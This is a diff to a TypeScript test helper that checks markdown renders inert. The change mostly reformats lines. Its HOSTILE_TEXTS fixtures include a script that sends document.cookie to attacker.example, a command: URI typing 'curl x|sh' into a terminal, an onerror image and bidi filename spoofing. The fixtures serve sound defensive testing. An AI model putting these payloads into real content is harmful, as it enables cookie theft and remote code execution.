@@ -24,22 +24,31 @@ function walk(tokens: Token[], visit: (t: Token) => void): void {
 export function liveMarkdown(markdown: string): string[] {
   const found: string[] = [];
   walk(parser.parse(markdown, {}), (t) => {
-    if (t.type === 'link_open' || t.type === 'image') found.push(`${t.type} ${t.attrs?.find(([k]) => k === 'href' || k === 'src')?.[1] ?? ''}`);
+    if (t.type === 'link_open' || t.type === 'image')
+      found.push(`${t.type} ${t.attrs?.find(([k]) => k === 'href' || k === 'src')?.[1] ?? ''}`);
     if (t.type === 'html_inline' || t.type === 'html_block') found.push(`${t.type} ${t.content.trim().slice(0, 80)}`);
     // GFM's extended autolinks (VS Code's renderer has them), which CommonMark leaves as text
-    if (t.type === 'text') for (const m of t.content.matchAll(/\b(?:https?|ftp):\/\/\S*|\bwww\.\S*|[\w.+-]+@[\w-]+\.[\w.-]+/gi)) found.push(`gfm-autolink ${m[0].slice(0, 80)}`);
+    if (t.type === 'text')
+      for (const m of t.content.matchAll(/\b(?:https?|ftp):\/\/\S*|\bwww\.\S*|[\w.+-]+@[\w-]+\.[\w.-]+/gi))
+        found.push(`gfm-autolink ${m[0].slice(0, 80)}`);
   });
   return found;
 }
 
 /** The text a reader sees (tags stripped from markdown-it's HTML). */
 export function shownText(markdown: string): string {
-  return parser.render(markdown).replace(/<[^>]*>/g, '').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&');
+  return parser
+    .render(markdown)
+    .replace(/<[^>]*>/g, '')
+    .replace(/&lt;/g, '<')
+    .replace(/&gt;/g, '>')
+    .replace(/&quot;/g, '"')
+    .replace(/&amp;/g, '&');
 }
 
 /** No link, image, HTML or autolink in `markdown`, and the hostile text is still shown (as text), not dropped. */
 export function expectInert(markdown: string, shown?: string): void {
-  expect(liveMarkdown(markdown), "").toEqual([]);
+  expect(liveMarkdown(markdown), '').toEqual([]);
   if (shown !== undefined) expect(shownText(markdown)).toContain(shown);
 }
 
@@ -51,7 +60,11 @@ export const INVISIBLE = /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u
 export const HOSTILE_TEXTS: [attack: string, text: string, shown?: string][] = [
   ['a remote image with the file path in its URL', 'boom ![i](https://attacker.example/b.png?f=/home/user/project/model.py)', 'attacker'],
   ['a link to a remote site', 'see [the docs](https://attacker.example/phish)', 'the docs'],
-  ['a command: URI link', 'fix it [here](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)', 'here'],
+  [
+    'a command: URI link',
+    'fix it [here](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)',
+    'here',
+  ],
   ['an <img> tag', '<img src="https://attacker.example/p.png" onerror="alert(1)">', 'img'],
   ['a <script> block', '<script>fetch("https://attacker.example/"+document.cookie)</script>', 'script'],
   ['an autolink in angle brackets', 'go to <https://attacker.example/a>', 'attacker'],
@@ -70,6 +83,10 @@ export const HOSTILE_TEXTS: [attack: string, text: string, shown?: string][] = [
   ['an HTML comment and entity-encoded brackets', '<!-- x --> &#91;a&#93;(https://attacker.example/ent)', 'attacker'],
   ['a table cell break and a pipe', 'a | b |\n|---|---|\n| [c](https://attacker.example/t) |', 'attacker'],
   ['ANSI and other control characters', 'red \u001b[31m\u0007bell\u0000nul [l](https://attacker.example/c)', 'bell'],
-  ['a bidi override that reverses the shown text', 'harmless \u202Eyp.exe\u202C and \u2066[x](https://attacker.example/bidi)\u2069', 'harmless'],
+  [
+    'a bidi override that reverses the shown text',
+    'harmless \u202Eyp.exe\u202C and \u2066[x](https://attacker.example/bidi)\u2069',
+    'harmless',
+  ],
   ['a very long text with a link at its end', `${'A'.repeat(200_000)}[late](https://attacker.example/late)`],
 ];
